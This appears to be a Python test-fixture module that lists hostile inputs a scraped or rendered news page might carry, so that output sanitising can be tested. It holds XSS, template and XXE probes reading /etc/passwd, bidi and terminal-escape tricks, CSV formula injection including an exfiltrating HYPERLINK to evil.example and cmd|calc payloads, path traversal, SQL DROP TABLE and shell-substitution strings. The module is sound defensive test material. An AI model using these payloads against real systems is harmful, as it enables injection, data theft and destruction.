"""What a page may bring that a careless output would obey: one attack a name, each with a mark to find it by."""

from collections.abc import Mapping

#: By name: text that stands in headline, byline, credit and body of a page of its own.
ATTACKS: Mapping[str, str] = {
    "script": '<script>window.owned=1;document.title="taken"</script>',
    "handler": '<img src="http://evil.example/x.png" onerror="window.owned=1"><svg onload="window.owned=1"></svg>',
    "quotes": "\"><b onmouseover=window.owned=1 x=' autofocus onfocus=window.owned=1 tabindex=0>",
    "closing": "</title></style></textarea></script></td></table><iframe src=javascript:window.owned=1></iframe>",
    "template": "{{ 1337 * 3 }} {% include '/etc/passwd' %} ${1337*3} <%= 1337*3 %> #{1337*3}",
    "entity": "]]> <![CDATA[ <!-- <!ENTITY taken SYSTEM 'file:///etc/passwd'> &taken; --> <?php taken ?>",
    "bidi": "invoice\u202egnp.exe\u202c \u2066left\u2069 \u200fmark \u061cmark",
    "terminal": "\x1b]0;taken\x07 \x1b[2J\x1b[31mred \x9b31m",
    "control": "bell \x07 back \x08 delete \x7f line\u2028paragraph\u2029mark \ufeff",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "markdown": "[click](javascript:window.owned=1) ![x](http://evil.example/i.png) | cell | `code` <b>bold</b>",
    "long": "W" * 4_000,
    "path": "../../../etc/passwd ..\\..\\windows\\system.ini CON",
    "dot": '"]; taken [label="taken"]; } digraph taken { "\\',
    "sql": "'); DROP TABLE article; -- \" OR 1=1",
    "shell": "$(touch taken) `touch taken` ; touch taken | touch taken & touch taken",
    "json": '", "taken": true, "x": "\\u0000',
}  # fmt: skip
#: What only a text that comes as JSON can hold.
BROKEN: Mapping[str, str] = {"nul": "before \x00 after", "surrogate": "half \ud800 pair \udfff"}
#: Keys of outlets as a file may give them.
KEYS = ("../../x", "con", "..", "a/b", 'q"u<o>te', "=1+1", "nul.txt", "\u202ekey")
#: Addresses that name a page and hold an attack; one of `javascript:` is kept as text, and nothing may lead to it.
ADDRESSES = (
    'http://address.example/?q="><script>window.owned=1</script>&y={{1337*3}}',
    "http://address.example/'onclick='window.owned=1",
    "http://address.example/..%2f..%2fetc/passwd?a=\u202eb&=1+1",
)
NO_ADDRESS = "javascript:window.owned=1//http://address.example/"
